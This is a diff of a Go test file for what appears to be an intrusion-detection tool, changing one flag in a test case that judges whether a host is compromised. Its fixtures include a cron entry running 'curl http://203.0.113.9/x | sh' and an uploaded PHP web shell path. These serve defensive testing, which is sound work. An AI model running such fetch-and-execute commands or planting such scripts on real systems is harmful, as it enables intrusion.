@@ -87,7 +87,7 @@ func TestVerdicts(t *testing.T) {
 		{"nothing, but no logs of logins", string(CannotTell), "", Possible, false, 0, func(s *Setting) { s.Coverage = nil }, nil},
 		{"nothing, but only logs", string(CannotTell), "", Possible, false, 0, func(s *Setting) { s.Tree = false }, nil},
 		{"nothing, but damage", string(CannotTell), "", Possible, false, 0, func(s *Setting) { s.Damaged = 3 }, nil},
-		{"something bad that nothing explains", Compromised, "unknown", Possible, false, 1, nil, []detect.Finding{cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")}},
+		{"something bad that nothing explains", Compromised, "unknown", Possible, true, 1, nil, []detect.Finding{cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")}},
 		{"a script uploaded", Compromised, "web-upload", Confirmed, false, 1, nil, []detect.Finding{{Detection: "D23", What: detect.WebUpload, Title: "an intruder's script: /var/www/html/uploads/x.php", Level: detect.Critical, Rung: evidence.Effect,
 			Path: "/var/www/html/uploads/x.php", Account: "www-data", Source: "203.0.113.6", Service: "web", First: at("03:00:00"), Last: at("03:05:00"), Detail: "it runs what a request carries", For: quote("/var/log/apache2/access.log")}}},
 		{"the same by ftp", Compromised, "ftp-password", Confirmed, false, 1, nil, []detect.Finding{{Detection: "D54", What: detect.WebScript, Title: "an intruder's script: /var/www/html/uploads/x.php", Level: detect.Critical, Rung: evidence.Effect,
